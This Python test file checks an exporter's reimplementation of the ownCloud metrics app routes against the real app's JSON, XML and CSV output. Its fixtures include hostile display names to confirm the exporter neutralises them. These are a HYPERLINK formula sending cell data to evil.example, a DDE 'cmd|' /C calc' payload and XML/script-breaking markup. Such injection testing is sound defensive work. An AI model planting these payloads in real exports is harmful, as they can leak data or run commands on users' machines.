"""The ownCloud metrics app's routes over a real socket.

On the real ownCloud 10.15.2 database (tests/fixtures/owncloud), on SQLite, PostgreSQL and
MariaDB, as of the app's own call: the JSON equals the app's answer in every field, the XML and
both CSV downloads byte for byte; only the disk's figures differ when the exporter is not told
the disk; each flag adds its section; the README's curl calls work unchanged; the older README
shape is served when the config asks for it.

On the hand-built test database (tests/platforms/owncloud_db.py), for what the real one lacks:
LDAP and unregistered backends, type-4 shares, object storage and unmatched homes, '@' user ids
in XML, and hostile display names, which stay well-formed and inert in every format; the answer
equals our transcription of the app's SQL (tests/platforms/owncloud_reference.py, itself checked
against the real app). Errors look like the app's."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import urllib.error
import urllib.request
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import create_engine, text

from exporter import api
from exporter.api.csvout import safe_cell, stream_csv
from exporter.daemon import application
from exporter.http import App, Context, FailedAttempts
from exporter.runner import Runner
from exporter.server import HttpServer
from tests.conftest import (
    API_KEY,
    NEXTCLOUD_DB,
    OWNCLOUD,
    OWNCLOUD_DB,
    make_config,
    read_json,
    sqlite_execute,
)
from tests.platforms.owncloud_db import OWNCLOUD_NOW, build_owncloud_db
from tests.platforms.owncloud_reference import (
    USERS_CSV_HEADER,
    system_metrics,
    user_data,
    users_csv_rows,
)

CAPACITY = 2 * 1024**4  # object storage capacity: free = capacity - used, as the app computes it
OCS = "/ocs/v{}.php/apps/metrics/api/v1/metrics"
USERS_CSV = "/index.php/apps/metrics/download-api/users"
SYSTEM_CSV = "/index.php/apps/metrics/download-api/system"
KEY = {"OC-MetricsApiKey": API_KEY}
FORBIDDEN = ("You do not have sufficient permissions to access this endpoint. Please consult the "
             "System Administrator for access.")
ALL_FLAGS = "users=true&files=true&shares=true&quota=true&userData=true"
# Display names a hostile or careless user can set, on accounts with a home storage.
HOSTILE = {
    "alice": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "bob": "+SUM(1,2)",
    "carol": "-2+3",
    "dave": "@SUM(A1:A2)",
    "erin": "\tcmd|' /C calc'!A0",
    "frank": "\rCR first",
    "grace": 'Line one\nLine "two", with a comma\r\nLine three',
    "heidi": "\u202etxt.exe\u202c \u200fמשה כהן\u200f",
    "ivan": "</displayName><injected>x</injected><![CDATA[ ]]> & </script>",
    "judy": ('Ünïcödé, "quoted"; 山本 \U0001f600 ' * 400)[:10240],
    "m.schmidt": "ctrl\x01\x02\x0b\x1f bell\x07 \ufffe end",
    "mallory": None,
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def fetch(url: str, headers: dict[str, str] | None = None) -> tuple[int, Any, bytes]:
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.headers, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


def hostile_db(path: Path) -> Path:
    build_owncloud_db(str(path))
    sqlite_execute(path, *(
        "UPDATE oc_accounts SET display_name = {} WHERE user_id = '{}'".format(
            "NULL" if name is None else "'" + name.replace("'", "''") + "'", uid)
        for uid, name in HOSTILE.items()))
    return path


def serve(runner: Runner) -> Iterator[str]:
    context = Context(lambda: runner.snapshot, runner.config.api_keys, runner.history,
                      runner.clock)
    server = HttpServer(App(context, api.routes(context)), "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{server.port}"
    finally:
        server.stop()


def owncloud_runner(url: str) -> Runner:
    config = make_config(url, "owncloud", database={"available_storage_bytes": CAPACITY})
    runner = Runner(config, clock=lambda: OWNCLOUD_NOW)
    assert runner.run_all().failures == {}
    return runner


def reference(url: str) -> dict[str, Any]:
    """What the app answers with every flag on, and the CSV rows, read by the app's own SQL."""
    engine = create_engine(url)
    try:
        with engine.connect() as conn:
            return {
                "data": {**system_metrics(conn, OWNCLOUD_NOW, 0, available_storage=CAPACITY),
                         "userData": user_data(conn, 0, available_storage=CAPACITY)},
                "users_csv": users_csv_rows(conn, 0, available_storage=CAPACITY),
            }
    finally:
        engine.dispose()


@pytest.fixture(scope="module")
def db_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_db(tmp_path_factory.mktemp("owncloud_api") / "owncloud.db")


@pytest.fixture(scope="module")
def base_url(db_path: Path) -> Iterator[str]:
    runner = owncloud_runner(f"sqlite:///{db_path}")
    yield from serve(runner)
    runner.close()


@pytest.fixture(scope="module")
def expected(db_path: Path) -> dict[str, Any]:
    return reference(f"sqlite:///{db_path}")


def ocs_json(base_url: str, query: str, version: int = 1) -> tuple[int, Any, dict[str, Any]]:
    status, headers, body = fetch(f"{base_url}{OCS.format(version)}?{query}", KEY)
    return status, headers, json.loads(body)


def meta(version: int, ok: bool = True, message: str = "OK") -> dict[str, Any]:
    codes = {(1, True): 100, (1, False): 996, (2, True): 200, (2, False): 500}
    return {"status": "ok" if ok else "failure", "statuscode": codes[version, ok],
            "message": message, "totalitems": "", "itemsperpage": ""}


# --- the real metrics app's answers (tests/fixtures/owncloud: ownCloud 10.15.2, metrics 1.4.0) ---

APP_JSON = read_json(OWNCLOUD / "metrics_api.json")
APP_XML = (OWNCLOUD / "metrics_api_system.xml").read_bytes()
APP_USERS_CSV = (OWNCLOUD / "metrics_download_users.csv").read_bytes()
APP_SYSTEM_CSV = (OWNCLOUD / "metrics_download_system.csv").read_bytes()
APP_STORAGE = APP_JSON["ocs"]["data"]["files"]["storage"]
APP_USERS = APP_JSON["ocs"]["data"]["userData"]
# Users whose quota is 'none': the app shows the disk's total as their quota.
UNLIMITED = sorted(uid for uid, entry in APP_USERS.items()
                   if entry["quota"]["total"] == APP_STORAGE["total"])
SYSTEM_FLAGS = "users=true&files=true&shares=true"


def xml_total(body: bytes) -> int:
    storage = ET.fromstring(body).find("data/files/storage")
    return int(storage.findtext("total"))


def csv_dicts(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


# The disk's total (free + used) as the app saw it for each answer: the disk changed between them.
CAPTURED_TOTAL = {
    "json": APP_STORAGE["total"],
    "xml": xml_total(APP_XML),
    "users_csv": int(next(row["quotaTotal"] for row in csv_dicts(APP_USERS_CSV)
                          if row["userId"] == UNLIMITED[0])),
    "system_csv": sum(int(csv_dicts(APP_SYSTEM_CSV)[0][c])
                      for c in ("freeStorage", "usedStorage")),
}


def leaves(value: Any, path: str = "") -> dict[str, Any]:
    """Every field of a JSON document by its dotted path."""
    if isinstance(value, dict) and value:
        return {p: v for key, item in value.items()
                for p, v in leaves(item, f"{path}.{key}").items()}
    return {path.lstrip("."): value}


@pytest.fixture(scope="module")
def app_server(owncloud_url: str, owncloud_now: float) -> Iterator[Callable[..., str]]:
    """The daemon's application on the real fixture, one per (disk total, app version): told
    the disk's total as object storage capacity (free = capacity - used, as the app computes
    it), or not told."""
    servers: dict[tuple[int | None, str], tuple[Runner, HttpServer]] = {}

    def url(total: int | None = None, version: str = "1.4.0") -> str:
        if (total, version) not in servers:
            database: dict[str, Any] = {"metrics_app_version": version}
            if total is not None:
                database["available_storage_bytes"] = total
            runner = Runner(make_config(owncloud_url, "owncloud", database=database),
                            clock=lambda: owncloud_now)
            assert runner.run_all().failures == {}
            server = HttpServer(application(runner, FailedAttempts()), "127.0.0.1", 0).start()
            servers[total, version] = runner, server
        return f"http://127.0.0.1:{servers[total, version][1].port}"

    yield url
    for runner, server in servers.values():
        server.stop()
        runner.close()


def test_json_equals_the_real_apps_answer_in_every_field(app_server):
    _, _, body = ocs_json(app_server(CAPTURED_TOTAL["json"]), f"{ALL_FLAGS}&format=json")
    ours, app = leaves(body), leaves(APP_JSON)
    assert len(app) == 5 + 324  # meta, and every field of data
    assert ours == app
    # The fixture's JSON was written with sorted keys; ours keep the app's order.
    assert list(body["ocs"]["data"]["files"]["storage"]) == \
        ["used", "usedQuota", "usedOther", "total", "free", "relative"]


def test_json_without_the_disk_differs_only_in_disk_values(app_server):
    _, _, body = ocs_json(app_server(), f"{ALL_FLAGS}&format=json")
    disk = {"ocs.data.files.storage.free", "ocs.data.files.storage.total",
            *(f"ocs.data.userData.{uid}.quota.{key}" for uid in UNLIMITED
              for key in ("free", "total"))}
    ours, app = leaves(body), leaves(APP_JSON)
    assert {path for path in app if ours.get(path) != app[path]} == disk
    assert ours["ocs.data.files.storage.free"] == 0  # unknown free space, clamped as the app does


def test_xml_equals_the_real_apps_answer_byte_for_byte(app_server):
    status, headers, body = fetch(f"{app_server(CAPTURED_TOTAL['xml'])}{OCS.format(1)}?"
                                  f"{SYSTEM_FLAGS}", KEY)
    assert (status, headers["Content-Type"]) == (200, "application/xml; charset=utf-8")
    assert body == APP_XML


def test_users_csv_equals_the_real_apps_download_byte_for_byte(app_server):
    status, headers, body = fetch(app_server(CAPTURED_TOTAL["users_csv"]) + USERS_CSV, KEY)
    assert (status, headers["Content-Type"]) == (200, "text/csv")
    assert body == APP_USERS_CSV


def test_system_csv_equals_the_real_apps_download_byte_for_byte(app_server):
    _, _, body = fetch(app_server(CAPTURED_TOTAL["system_csv"]) + SYSTEM_CSV, KEY)
    assert body == APP_SYSTEM_CSV


def test_csvs_without_the_disk_differ_only_in_disk_cells(app_server):
    _, _, users = fetch(app_server() + USERS_CSV, KEY)
    ours, app = csv_dicts(users), csv_dicts(APP_USERS_CSV)
    assert [row["userId"] for row in ours] == [row["userId"] for row in app]
    differing = {(row["userId"], column) for mine, row in zip(ours, app, strict=True)
                 for column in row if mine[column] != row[column]}
    assert differing == {(uid, c) for uid in UNLIMITED for c in ("quotaFree", "quotaTotal")}
    _, _, system = fetch(app_server() + SYSTEM_CSV, KEY)
    (mine,), (row,) = csv_dicts(system), csv_dicts(APP_SYSTEM_CSV)
    assert {column for column in row if mine[column] != row[column]} == {"freeStorage"}


def test_the_older_readme_shape_when_the_config_asks(app_server, owncloud_url):
    _, _, body = ocs_json(app_server(CAPTURED_TOTAL["json"], "legacy"), f"{ALL_FLAGS}&format=json")
    data = body["ocs"]["data"]
    app = APP_JSON["ocs"]["data"]
    assert data["files"]["storage"] == {key: APP_STORAGE[key]
                                        for key in ("used", "total", "free", "relative")}
    assert {key: data[key] for key in ("users", "shares", "timeStamp")} == \
        {key: app[key] for key in ("users", "shares", "timeStamp")}
    assert set(data["userData"]) == set(APP_USERS)
    clients = session_names(owncloud_url)
    for uid, entry in data["userData"].items():
        want = APP_USERS[uid]
        assert entry == {
            "displayName": want["displayName"], "files": want["files"], "shares": want["shares"],
            "quota": {"limit": want["quota"]["total"], "usage": want["quota"]["used"]},
            "activeSessions": [{"agentName": name} for name in clients.get(uid, [])]}, uid
        assert len(entry["activeSessions"]) == want["activeSessions"], uid


def test_a_formula_like_display_name_is_the_only_cell_unlike_the_app(tmp_path, owncloud_now):
    """The app writes a display name as it is; ours cannot run as a spreadsheet formula. Every
    other byte of the download stays the app's."""
    path = tmp_path / "owncloud.db"
    shutil.copyfile(OWNCLOUD_DB, path)
    formula = '=HYPERLINK("http://evil.example/","Alice Anderson")'
    sqlite_execute(path, "UPDATE oc_accounts SET display_name = '{}' WHERE user_id = 'alice'"
                   .format(formula.replace("'", "''")))
    database = {"available_storage_bytes": CAPTURED_TOTAL["users_csv"]}
    runner = Runner(make_config(f"sqlite:///{path}", "owncloud", database=database),
                    clock=lambda: owncloud_now)
    assert runner.run_all().failures == {}
    for url in serve(runner):
        _, _, body = fetch(url + USERS_CSV, KEY)
    runner.close()
    ours, app = body.decode().splitlines(), APP_USERS_CSV.decode().splitlines()
    differing = [n for n, (mine, theirs) in enumerate(zip(ours, app, strict=True))
                 if mine != theirs]
    (line,) = differing
    assert ours[line] == app[line].replace('"Alice Anderson"',
                                           '"\'' + formula.replace('"', '""') + '"')


def test_the_older_shape_says_so_when_it_cannot_read_the_sessions(owncloud_now):
    """Its client names are not in the snapshot: without a database reader the call fails as
    the app fails, with the reason; without users=true it needs none."""
    runner = Runner(make_config(f"sqlite:///{OWNCLOUD_DB}", "owncloud"),
                    clock=lambda: owncloud_now)
    assert runner.run_all().failures == {}
    context = Context(lambda: runner.snapshot, runner.config.api_keys)
    server = HttpServer(App(context, api.routes(context, metrics_app_version="legacy")),
                        "127.0.0.1", 0).start()
    try:
        url = f"http://127.0.0.1:{server.port}"
        _, _, body = ocs_json(url, f"{ALL_FLAGS}&format=json")
        assert body["ocs"]["meta"] == meta(1, False, "The sessions cannot be read from this API.")
        _, _, body = ocs_json(url, "quota=true&userData=true&format=json")
        assert body["ocs"]["data"]["userData"]["alice"]["quota"] == {
            "limit": APP_USERS["alice"]["quota"]["total"],
            "usage": APP_USERS["alice"]["quota"]["used"]}
    finally:
        server.stop()
        runner.close()


def session_names(url: str) -> dict[str, list[str]]:
    """oc_authtoken.name of each user's tokens, oldest activity first."""
    engine = create_engine(url)
    try:
        with engine.connect() as conn:
            rows = conn.execute(text("SELECT uid, name FROM oc_authtoken "
                                     "ORDER BY uid, last_activity, name")).all()
    finally:
        engine.dispose()
    names: dict[str, list[str]] = {}
    for uid, name in rows:
        names.setdefault(uid, []).append(name)
    return names


# --- the OCS route ---


@pytest.mark.parametrize("version", [1, 2])
def test_json_with_every_flag_equals_the_app_field_by_field(base_url, expected, version):
    status, headers, body = ocs_json(base_url, f"{ALL_FLAGS}&format=json", version)
    assert status == 200
    assert headers["Content-Type"] == "application/json; charset=utf-8"
    assert body["ocs"]["meta"] == meta(version)
    data = body["ocs"]["data"]
    assert data == expected["data"]
    assert list(data) == ["timeStamp", "users", "files", "shares", "userData"]
    assert len(data["userData"]) > 20


@pytest.mark.parametrize(("query", "present"), [
    ("", set()),
    ("users=true", {"users"}),
    ("files=true&shares=true", {"files", "shares"}),
    # Only the exact string 'true' turns a flag on; the last value of a parameter counts.
    ("users=TRUE&files=1&shares=yes&userData=true&userData=false", set()),
])
def test_each_flag_adds_its_section(app_server, query, present):
    _, _, body = ocs_json(app_server(CAPTURED_TOTAL["json"]), query + "&format=json")
    app = APP_JSON["ocs"]["data"]
    assert body["ocs"]["data"] == {"timeStamp": app["timeStamp"]} | {key: app[key]
                                                                      for key in present}


@pytest.mark.parametrize("flags", [
    (),
    ("files",),
    ("shares", "quota"),
    ("users", "files", "shares", "quota"),
])
def test_user_data_carries_the_sections_the_flags_ask_for(app_server, flags):
    query = "".join(f"{name}=true&" for name in flags) + "userData=true&format=json"
    _, _, body = ocs_json(app_server(CAPTURED_TOTAL["json"]), query)
    sections = {"files": ("files",), "shares": ("shares",), "quota": ("quota",),
                "users": ("activeSessions", "lastLogin")}
    kept = {"displayName", "backend", *(key for flag in flags for key in sections[flag])}
    assert body["ocs"]["data"]["userData"] == {
        uid: {key: value for key, value in entry.items() if key in kept}
        for uid, entry in APP_USERS.items()}


def xml_value(element: ET.Element) -> Any:
    """An OCS XML element back as the structure it was written from: children by name (or by
    the key attribute of <element>), leaves as text."""
    if len(element):
        return {child.get("key", child.tag): xml_value(child) for child in element}
    return element.text or ""


def as_xml_text(value: Any) -> Any:
    """What XML can carry of a value: text, with characters XML 1.0 forbids as U+FFFD."""
    if isinstance(value, dict):
        return {key: as_xml_text(item) for key, item in value.items()}
    allowed = re.compile("[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
    text = "" if value is None else str(value)
    return "".join(c if allowed.fullmatch(c) else "\ufffd" for c in text)


@pytest.mark.parametrize("version", [1, 2])
def test_xml_is_the_default_and_equals_the_app_field_by_field(base_url, expected, version):
    status, headers, body = fetch(f"{base_url}{OCS.format(version)}?{ALL_FLAGS}", KEY)
    assert status == 200
    assert headers["Content-Type"] == "application/xml; charset=utf-8"
    assert body.startswith(b'<?xml version="1.0"?>\n<ocs>\n <meta>\n  <status>ok</status>\n')
    root = ET.fromstring(body)
    assert root.tag == "ocs"
    assert xml_value(root) == {"meta": as_xml_text(meta(version)),
                               "data": as_xml_text(expected["data"])}
    user_data = root.find("data/userData")
    # User ids that are XML names name their element; others (with '@') are kept in an attribute.
    assert user_data.find("alice") is not None
    assert user_data.find("element[@key='anna.meyer@partner-firm.example']") is not None


def test_errors_are_the_apps_ocs_failure_envelope(base_url):
    wrong = {"OC-MetricsApiKey": "not-the-key"}
    status, _, body = fetch(f"{base_url}{OCS.format(1)}?{ALL_FLAGS}&format=json", wrong)
    assert status == 200  # OCS v1 reports failures in the body only
    assert json.loads(body) == {"ocs": {"meta": meta(1, False, FORBIDDEN), "data": []}}
    status, _, body = fetch(f"{base_url}{OCS.format(2)}?format=json")
    assert status == 500
    assert json.loads(body) == {"ocs": {"meta": meta(2, False, FORBIDDEN), "data": []}}
    status, headers, body = fetch(f"{base_url}{OCS.format(1)}")
    assert (status, headers["Content-Type"]) == (200, "application/xml; charset=utf-8")
    assert body.decode() == (
        '<?xml version="1.0"?>\n<ocs>\n <meta>\n  <status>failure</status>\n'
        f"  <statuscode>996</statuscode>\n  <message>{FORBIDDEN}</message>\n"
        "  <totalitems></totalitems>\n  <itemsperpage></itemsperpage>\n </meta>\n <data/>\n"
        "</ocs>\n")
    # Without a format parameter core takes the first Accept item naming a responder.
    for accept, content_type in (("application/json", "application/json; charset=utf-8"),
                                 ("text/html, application/xml", "application/xml; charset=utf-8"),
                                 ("application/json;q=0.9", "application/xml; charset=utf-8")):
        status, headers, _ = fetch(base_url + OCS.format(1), {**KEY, "Accept": accept})
        assert (status, headers["Content-Type"]) == (200, content_type), accept
    # A format core has no responder for ends PHP with an empty 500, key or no key.
    for fmt in ("csv", "JSON", ""):
        status, _, body = fetch(f"{base_url}{OCS.format(1)}?format={fmt}", KEY)
        assert (status, body) == (500, b""), fmt


# --- the CSV downloads ---


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def csv_text(value: Any) -> str:
    """A value as the CSV shows it: text that a spreadsheet would run as a formula starts with
    a single quote; numbers as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return "" if value is None else str(value)


def test_users_csv_equals_the_app_field_by_field(base_url, expected):
    status, headers, body = fetch(base_url + USERS_CSV, KEY)
    assert status == 200
    assert headers["Content-Type"] == "text/csv"
    assert headers["Content-Disposition"] == \
        'attachment; filename="DataMetrics-11/23/26, 9:04:43 AM-users.csv"'
    header, *rows = csv_rows(body)
    assert tuple(header) == USERS_CSV_HEADER
    ours = {row[0]: row for row in rows}
    assert len(ours) == len(rows) == len(expected["users_csv"])
    for want in expected["users_csv"]:
        assert ours[want["userId"]] == [csv_text(want[c]) for c in USERS_CSV_HEADER], \
            want["userId"]
    # The app's per-user guest shares are share_type 4 rows: r.garcia owns two of them.
    assert ours["r.garcia"][USERS_CSV_HEADER.index("sharesGuest")] == "2"


def test_the_deprecated_download_route_is_the_users_csv(app_server):
    url = app_server(CAPTURED_TOTAL["users_csv"])
    assert fetch(url + "/index.php/apps/metrics/download-api", KEY)[2] == APP_USERS_CSV


def test_a_wrong_key_on_a_download_is_the_apps_error_page(base_url):
    for headers in ({}, {"OC-MetricsApiKey": "wrong"}):
        status, response_headers, body = fetch(base_url + USERS_CSV, headers)
        assert status == 500
        assert response_headers["Content-Type"] == "text/html; charset=UTF-8"
        assert b"<h2>Internal Server Error</h2>" in body
        assert b"userId" not in body


def test_downloads_before_the_collectors_ran_fail_as_the_app_does(db_path):
    runner = Runner(make_config(f"sqlite:///{db_path}", "owncloud"),
                    clock=lambda: OWNCLOUD_NOW)
    for base_url in serve(runner):
        status, headers, body = fetch(base_url + SYSTEM_CSV, KEY)
        assert (status, json.loads(body)) == (500, ["Could not get csv data."])
        assert headers["Content-Type"] == "application/json; charset=utf-8"
        _, _, answer = ocs_json(base_url, "users=true&format=json")
        assert answer["ocs"]["meta"] == meta(1, False, "The sessions collector has not "
                                                       "produced data yet.")
        # The time stamp alone needs no collector.
        assert ocs_json(base_url, "format=json")[2]["ocs"]["data"] == {"timeStamp": OWNCLOUD_NOW}
    runner.close()


def test_the_routes_are_served_for_owncloud_only():
    runner = Runner(make_config(f"sqlite:///{NEXTCLOUD_DB}", "nextcloud"))
    for base_url in serve(runner):
        status, _, body = fetch(f"{base_url}{OCS.format(1)}?format=json", KEY)
        assert status == 404 and json.loads(body)["code"] == 404.1
    runner.close()


# --- a client written for the app, unchanged ---


def curl(*args: str, stdout: Any = subprocess.PIPE) -> bytes:
    done = subprocess.run(["curl", *args], stdout=stdout, stderr=subprocess.PIPE, timeout=60,
                          check=True)
    return done.stdout


def test_the_readme_curl_calls_of_the_metrics_app_work_unchanged(app_server, tmp_path):
    """The calls of the ownCloud metrics app's README, with only host and key filled in."""
    body = curl(f"{app_server(CAPTURED_TOTAL['json'])}/ocs/v1.php/apps/metrics/api/v1/metrics"
                "?users=true&files=true&shares=true&quota=true&userData=true&format=json",
                "-H", f"OC-MetricsApiKey: {API_KEY}")
    assert leaves(json.loads(body)) == leaves(APP_JSON)
    for kind, total, app in (("users", CAPTURED_TOTAL["users_csv"], APP_USERS_CSV),
                             ("system", CAPTURED_TOTAL["system_csv"], APP_SYSTEM_CSV)):
        target = tmp_path / f"{kind}-metrics.csv"
        with target.open("wb") as out:
            curl("-H", "Content-Type: application/csv", "-H", f"OC-MetricsApiKey: {API_KEY}",
                 "-X", "GET", f"{app_server(total)}/index.php/apps/metrics/download-api/{kind}",
                 stdout=out)
        assert target.read_bytes() == app


# --- hostile display names ---


def test_hostile_names_stay_well_formed_and_inert(base_url):
    _, _, raw_json = fetch(f"{base_url}{OCS.format(1)}?userData=true&format=json", KEY)
    assert b"<" not in raw_json and b">" not in raw_json  # no markup for a browser to sniff
    user_data = json.loads(raw_json)["ocs"]["data"]["userData"]
    assert {uid: user_data[uid]["displayName"] for uid in HOSTILE} == HOSTILE

    _, _, raw_xml = fetch(f"{base_url}{OCS.format(1)}?userData=true", KEY)
    root = ET.fromstring(raw_xml)
    assert root.find(".//injected") is None
    names = {uid: root.find(f"data/userData/{uid.replace('.', '_')}") if False else
             root.find(f"data/userData/{uid}") for uid in HOSTILE}
    assert {uid: element.findtext("displayName") or "" for uid, element in names.items()} == \
        {uid: as_xml_text(name) for uid, name in HOSTILE.items()}

    _, _, raw_csv = fetch(base_url + USERS_CSV, KEY)
    rows = {row[0]: row for row in csv_rows(raw_csv)[1:]}
    assert {uid: rows[uid][1] for uid in HOSTILE} == \
        {uid: csv_text(name) for uid, name in HOSTILE.items()}
    for row in rows.values():
        for cell in row:
            # Only numbers (negative free quota) may start like a formula.
            assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-\d+", cell), cell


def test_csv_output_streams_in_chunks_and_round_trips_any_text():
    taken: list[int] = []

    def rows() -> Iterator[list[Any]]:
        for n in range(20_000):
            taken.append(n)
            yield [n, HOSTILE["grace"], -n, None, 1.5, "=1+1"]

    chunks = stream_csv(["n", "text", "negative", "none", "float", "formula"], rows())
    first = next(chunks)
    assert len(taken) < 20_000  # rows are read as chunks go out, not all up front
    body = first + b"".join(chunks)
    parsed = csv_rows(body)
    assert parsed[0] == ["n", "text", "negative", "none", "float", "formula"]
    assert parsed[1:] == [[str(n), HOSTILE["grace"], str(-n), "", "1.5", "'=1+1"]
                          for n in range(20_000)]
    assert [safe_cell(v) for v in (None, -3, "-3", "@x", "a=b", "\rx")] == \
        ["", "-3", "'-3", "'@x", "a=b", "'\rx"]



def test_csv_rows_read_back_the_same_whichever_writer_wrote_their_batch():
    """Batches without a carriage return go through the csv module, others are written by
    hand: both read back as the same cells, and a lone empty cell is an empty line."""
    plain = [[n, -n, n / 4, None, f"name {n}", 'say "hi", then\nleave', "=1+1", True]
             for n in range(1500)]
    with_cr = [*plain[:3], [7, -7, 1.75, None, "cr\rinside", "x", "-1", False]]
    for rows in (plain, with_cr):
        parsed = csv_rows(b"".join(stream_csv([str(n) for n in range(8)], rows)))
        assert parsed[1:] == [[safe_cell(v) for v in row] for row in rows]
    assert b"".join(stream_csv(["only"], [[None], [""], ["x"]])) == b"only\n\n\nx\n"
